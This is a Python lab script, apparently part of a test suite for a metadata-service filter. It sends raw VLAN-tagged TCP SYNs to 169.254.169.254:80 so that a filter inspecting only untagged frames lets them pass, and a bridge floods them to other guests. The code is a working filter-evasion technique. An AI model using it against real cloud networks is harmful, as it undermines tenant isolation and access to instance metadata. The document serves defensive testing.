"""Tagged SYNs: TCP SYNs to 169.254.169.254:80 inside VLAN tags.

A port filter that looks only at untagged frames lets these through to the bridge,
which floods them (their destination MAC, the one answering ARP for the metadata
address, sits on no port) to every other guest; a guest takes a VID-0 tag as none.
This sends --count SYNs, each from its own source port (--first-port upwards, so a
capture can name them), --interval apart, from this guest's own MAC and address.

    ip netns exec NS python -m transparent_md.lab.attacks.tagsyn --vlan 0

Prints one JSON line: {"sent", "dst_mac", "src_ip", "ports", "vlan"}.
"""

from __future__ import annotations

import argparse
import json
import socket
import time

from transparent_md.lab.attacks.arpclaim import own_mac
from transparent_md.lab.attacks.flood import (
    DISCARD_PORT,
    METADATA_IP,
    METADATA_PORT,
    resolve_mac,
)
from transparent_md.lab.attacks.frames import SYN, add_vlan_option, tagged, tcp_frame

DEFAULT_COUNT = 10
DEFAULT_INTERVAL_S = 0.05
DEFAULT_FIRST_PORT = 41000


def source_ip(dst_ip: str) -> str:
    """The address this namespace sends from towards `dst_ip`."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.connect((dst_ip, DISCARD_PORT))
        return udp.getsockname()[0]


def main(argv: list[str] | None = None) -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--iface", default="eth0")
    p.add_argument("--dst-ip", default=METADATA_IP)
    p.add_argument("--dst-port", type=int, default=METADATA_PORT)
    p.add_argument("--dst-mac", help="destination MAC (default: what ARP gives for --dst-ip)")
    p.add_argument("--count", type=int, default=DEFAULT_COUNT)
    p.add_argument("--interval", type=float, default=DEFAULT_INTERVAL_S)
    p.add_argument("--first-port", type=int, default=DEFAULT_FIRST_PORT)
    add_vlan_option(p)
    args = p.parse_args(argv)
    dst_mac = args.dst_mac or resolve_mac(args.dst_ip)
    src_ip, mac = source_ip(args.dst_ip), own_mac(args.iface)
    ports = [args.first_port + i for i in range(args.count)]
    frames = [tagged(tcp_frame(src_mac=mac, dst_mac=dst_mac, src_ip=src_ip,
                               dst_ip=args.dst_ip, sport=port, dport=args.dst_port,
                               flags=SYN, seq=port), args.vlan)
              for port in ports]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((args.iface, 0))
        for frame in frames:
            sock.send(frame)
            time.sleep(args.interval)
    print(json.dumps({"sent": len(frames), "dst_mac": dst_mac, "src_ip": src_ip,
                      "ports": ports, "vlan": args.vlan}), flush=True)


if __name__ == "__main__":
    main()
